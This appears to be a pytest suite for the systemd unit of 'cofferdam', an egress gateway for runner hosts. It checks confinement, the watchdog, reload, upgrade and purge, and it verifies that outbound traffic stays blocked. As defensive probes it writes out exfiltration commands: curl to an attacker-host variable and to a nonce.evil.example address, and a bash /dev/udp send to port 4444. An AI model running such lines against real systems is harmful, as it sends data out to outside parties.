"""The unit under a systemd that booted: started, confined, reloaded, hung, killed, upgraded, removed and purged."""
from __future__ import annotations

import re

import pytest
import yaml

from runner_host import CONFIG, DEFAULT_CA, RunnerHost
from world import names

ALLOWED = "curl -fsS -m 10 https://files.example/small.txt"
LEAK = "curl -sS -m 1 http://" + names.ATTACKER + "/{nonce}"
POLICY = {"allow": ["GET,HEAD https://files.example/"]}
NET_ADMIN = 1 << 12
UNIT = "/lib/systemd/system/cofferdam.service"
DOCKER = """[Service]
ExecStart=/bin/sleep infinity
"""


@pytest.fixture
def host(world, booted, package):
    booted.install(package)
    made = RunnerHost(world, booted, **POLICY)
    yield made
    made.close()


@pytest.fixture
def started(host):
    host.systemctl("start", "cofferdam")
    host.add_client()
    return host


def works(host: RunnerHost) -> bool:
    return host.client(ALLOWED, host.root.path(DEFAULT_CA)).out == "small\n"


def closed(host: RunnerHost, nonce: str) -> bool:
    """Nothing gets out, and the ruleset is there."""
    tries = [host.client(LEAK.format(nonce=nonce)), host.client(f"curl -sS -m 1 https://{nonce}.evil.example/"),
             host.client(f"bash -c 'echo {nonce} > /dev/udp/{names.ATTACKER}/4444'"), host.client(ALLOWED)]
    table = host.root.run("nft", "list", "tables").stdout
    return tries[0].code != 0 and tries[3].code != 0 and host.world.traces(nonce) == [] and "inet cofferdam" in table


def leak_for_a_minute(host: RunnerHost, nonce: str):
    """A client that goes on trying, whatever happens to the gateway; the caller ends it."""
    return host.start_client(f"for i in $(seq 600); do {LEAK.format(nonce=nonce)}; sleep 0.05; done")


def test_it_is_active_when_it_says_so(started):
    """Type=notify: `systemctl start` returns at READY=1, when it captures; the watchdog is fed."""
    assert works(started)
    shown = started.show("ActiveState", "Type", "NotifyAccess", "WatchdogUSec", "NRestarts")
    assert shown == {"ActiveState": "active", "Type": "notify", "NotifyAccess": "main", "WatchdogUSec": "30s", "NRestarts": "0"}
    started.systemctl("stop", "cofferdam")
    assert started.show("ActiveState", "Result", "ExecMainStatus") == {
        "ActiveState": "inactive", "Result": "success", "ExecMainStatus": "0"}


def test_it_is_confined(started):
    """What the kernel says of the process, not what the unit asks for."""
    pid = started.main_process()
    status = started.root.run("cat", f"/proc/{pid}/status").stdout
    fields = dict(line.split(":\t", 1) for line in status.splitlines())
    user = started.root.run("id", "-u", "cofferdam").stdout.strip()
    assert set(fields["Uid"].split()) == {user} and fields["NoNewPrivs"] == "1" and fields["Seccomp"] == "2", status
    assert int(fields["CapEff"], 16) == int(fields["CapPrm"], 16) == NET_ADMIN, status
    for path in ("/usr/bin/x", "/etc/cofferdam/x", "/var/lib/x", "/sys/fs/cgroup/x", "/proc/sys/kernel/hostname"):
        assert "Read-only" in started.root.run("nsenter", f"--target={pid}", "--mount", "sh", "-c", f": > {path}", check=False).stderr, path
    assert started.root.run("nsenter", f"--target={pid}", "--mount", "ls", "/home", "/root", check=False).stdout.split() == ["/home:", "/root:"]
    assert works(started)


def test_systemd_finds_nothing_wrong(host):
    """Its own check, and its rating of the exposure is low (0: sealed, 10: everything)."""
    checked = host.root.run("systemd-analyze", "verify", "--man=no", UNIT, check=False)
    assert checked.returncode == 0 and checked.stderr == "", checked
    rated = host.root.run("systemd-analyze", "security", "--no-pager", "cofferdam.service").stdout
    assert float(re.search(r"Overall exposure level .*: ([0-9.]+)", rated)[1]) <= 2.0, rated


def test_reload_takes_a_policy_that_is_good(started):
    refused = "curl -sS -m 10 -X DELETE https://files.example/small.txt"
    ca = started.root.path(DEFAULT_CA)
    assert works(started) and "method_not_allowed" in started.client(refused, ca).out
    pid = started.main_process()
    started.configure(allow=["https://files.example/"])
    started.systemctl("reload", "cofferdam")
    started.await_journal("cofferdam: reloaded")
    assert "method_not_allowed" not in started.client(refused, ca).out
    text = started.root.path(CONFIG).read_text()
    started.root.path(CONFIG).write_text(text.replace("allow:", "allwo:"))
    started.systemctl("reload", "cofferdam")
    started.await_journal("unknown key 'allwo'")
    assert works(started) and started.main_process() == pid


def test_hung_it_is_killed_by_the_watchdog_and_started_again(host, nonce):
    """The unit's 30 seconds are 5 here."""
    folder = host.root.path("/run/systemd/system/cofferdam.service.d")
    folder.mkdir(parents=True)
    (folder / "watchdog.conf").write_text("[Service]\nWatchdogSec=5\n")
    host.systemctl("daemon-reload")
    host.systemctl("start", "cofferdam")
    host.add_client()
    assert works(host)
    pid = host.main_process()
    host.root.run("kill", "-STOP", pid)
    leaking = leak_for_a_minute(host, nonce)
    host.await_restart()
    leaking.kill()
    leaking.wait()
    assert "Watchdog timeout" in host.journal() and host.main_process() != pid
    assert works(host) and host.world.traces(nonce) == []


def test_killed_it_is_started_again(started, nonce):
    assert works(started)
    leaking = leak_for_a_minute(started, nonce)
    started.systemctl("kill", "--signal=KILL", "cofferdam")
    started.await_restart()
    leaking.kill()
    leaking.wait()
    assert works(started) and started.world.traces(nonce) == []


def test_stopped_it_leaves_the_network_closed(started, nonce):
    assert works(started)
    started.systemctl("stop", "cofferdam")
    assert closed(started, nonce)
    started.systemctl("start", "cofferdam")
    assert works(started)


def test_a_bad_configuration_is_told_and_not_tried_again(host):
    host.root.path(CONFIG).write_text("version: 1\nallwo: []\n")
    assert host.systemctl("start", "cofferdam", check=False).returncode != 0
    assert host.show("ActiveState", "ExecMainStatus", "NRestarts") == {"ActiveState": "failed", "ExecMainStatus": "78", "NRestarts": "0"}
    assert f"{CONFIG}:2:1: unknown key 'allwo'" in host.journal()


def test_docker_can_be_made_to_wait_for_the_ruleset(host):
    """The drop-in of docs/runners.md, with a stand-in for Docker: without the ruleset no container starts, and a restart of the
    gateway does not touch it."""
    host.root.path("/etc/systemd/system/docker.service").write_text(DOCKER)
    drop_in = host.root.path("/etc/systemd/system/docker.service.d")
    drop_in.mkdir()
    (drop_in / "cofferdam.conf").write_text(host.root.path("/usr/share/doc/cofferdam/examples/docker-cofferdam.conf").read_text())
    good = host.root.path(CONFIG).read_text()
    host.root.path(CONFIG).write_text("version: 1\nallwo: []\n")
    host.systemctl("daemon-reload")
    assert host.systemctl("start", "docker", check=False).returncode != 0
    host.root.path(CONFIG).write_text(good)
    host.systemctl("start", "docker")
    assert host.show("ActiveState")["ActiveState"] == "active", "it is wanted by Docker"
    host.systemctl("restart", "cofferdam")
    host.systemctl("stop", "cofferdam")
    assert host.systemctl("is-active", "docker").stdout == "active\n"
    host.systemctl("restart", "docker")


def test_upgrade_restarts_it(started, newer, nonce):
    assert works(started)
    pid = started.main_process()
    leaking = leak_for_a_minute(started, nonce)
    started.root.install(newer)
    leaking.kill()
    leaking.wait()
    assert started.systemctl("is-active", "cofferdam").stdout == "active\n" and started.main_process() != pid
    assert works(started) and started.world.traces(nonce) == []


def test_removed_it_stays_closed(started, nonce):
    started.systemctl("enable", "cofferdam")
    started.root.run("dpkg", "--remove", "cofferdam")
    assert started.root.run("pgrep", "-x", "cofferdam", check=False).stdout == ""
    assert closed(started, nonce)


def test_purged_it_leaves_nothing(world, booted, package):
    before = set(booted.changes())
    booted.install(package)
    host = RunnerHost(world, booted, **POLICY)
    try:
        host.systemctl("enable", "--now", "cofferdam")
        host.add_client()
        assert works(host) and yaml.safe_load(booted.path(CONFIG).read_text())["allow"] == POLICY["allow"]
        booted.run("dpkg", "--purge", "cofferdam")
        assert booted.run("pgrep", "-x", "cofferdam", check=False).stdout == ""
        assert booted.run("nft", "list", "tables").stdout == ""
        assert [path for path in booted.changes() if path not in before and not path.startswith("/var/log/journal/")] == []
        assert booted.run("systemctl", "list-units", "--all", "--no-legend", "cofferdam*").stdout == ""
    finally:
        host.close()
